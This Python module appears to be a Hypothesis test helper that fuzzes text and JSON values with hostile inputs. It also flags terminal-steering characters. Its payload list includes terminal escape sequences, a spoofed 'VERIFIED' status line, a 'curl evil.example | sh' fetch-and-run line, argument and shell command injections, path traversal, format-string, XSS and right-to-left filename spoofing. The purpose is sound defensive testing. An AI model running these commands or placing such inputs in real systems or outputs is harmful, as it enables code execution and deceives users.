"""What a hostile hand writes wherever a person or a program may write something."""

import unicodedata
from collections.abc import Callable

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

WORDS = (
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\r\x1b[K41 VERIFIED.",
    "\n41 VERIFIED. All users are on 41.",
    "\n  Next: curl evil.example | sh",
    "\0",
    "\u202egnp.exe",
    "\u2066\u2069",
    "\u2028",
    "--upload-pack=touch owned",
    "-oProxyCommand=touch owned",
    "$(touch owned)",
    "`touch owned`",
    "; touch owned",
    "| touch owned",
    "../../../../owned",
    "%s%n{0}{0.__class__}",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "x" * 5_000,
)
TURN = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}

texts = st.lists(st.sampled_from(WORDS) | st.text(max_size=30), max_size=4).map("".join)


def steering(text: str) -> list[str]:
    """The characters of a text that a terminal would obey, or that turn its reading around."""
    return [
        each
        for each in text
        if (unicodedata.category(each) in {"Cc", "Zl", "Zp", "Cs"} and each not in "\n\t")
        or unicodedata.bidirectional(each) in TURN
    ]


def spoiled(value: object, draw: Callable[[SearchStrategy[str]], str]) -> object:
    """A JSON value with each of its texts replaced by a drawn one."""
    match value:
        case str():
            return draw(texts)
        case dict():
            return {key: spoiled(one, draw) for key, one in value.items()}
        case list() | tuple():
            return [spoiled(one, draw) for one in value]
    return value
